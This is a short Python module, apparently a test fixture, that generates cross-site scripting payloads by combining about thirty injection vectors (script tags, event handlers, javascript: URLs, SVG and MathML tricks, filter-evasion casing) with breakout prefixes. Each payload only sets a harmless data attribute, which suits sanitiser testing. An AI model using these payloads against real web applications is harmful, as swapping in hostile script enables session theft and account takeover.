"""Markup that runs script where a page pastes text into itself."""

from __future__ import annotations

MARK = "document.documentElement.dataset.owned=1"

_VECTORS = (
    "<script>{js}</script>",
    "<ScRiPt>{js}</sCrIpT>",
    "<script src=data:text/javascript,{js}></script>",
    "<script type=module>{js}</script>",
    "<scr<script>ipt>{js}</script>",
    "<img src=x onerror={js}>",
    "<img/src=x/onerror={js}>",
    "<IMG SRC=x OnErRoR={js}>",
    "<img src=x onerror\n=\n'{js}'>",
    "<svg onload={js}>",
    "<svg/onload={js}//",
    "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><set onbegin={js} attributeName=x>",
    "<body onload={js}>",
    "<iframe srcdoc='<script>parent.{js}</script>'></iframe>",
    "<iframe src='javascript:parent.{js}'></iframe>",
    "<object data='javascript:{js}'></object>",
    "<embed src='javascript:{js}'>",
    "<details open ontoggle={js}>",
    "<video><source onerror={js}></video>",
    "<audio src=x onerror={js}>",
    "<input autofocus onfocus={js}>",
    "<style>@keyframes k{{}}</style><b style=animation-name:k onanimationstart={js}>",
    "<a href='javascript:{js}' id=next>x</a>",
    "<base href='javascript:/{js};//'>",
    "<meta http-equiv=refresh content='0;url=javascript:{js}'>",
    "<form action='javascript:{js}'><button autofocus>x</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror={js}>",
    "{{{{constructor.constructor('{js}')()}}}}",
)
_BREAKOUTS = ("", '">', "'>", "</textarea></script></title></style>")

PAYLOADS = tuple(
    breakout + vector.format(js=MARK) for vector in _VECTORS for breakout in _BREAKOUTS
)
"""Distinct payloads; each sets ``data-owned`` on the root element when it runs."""
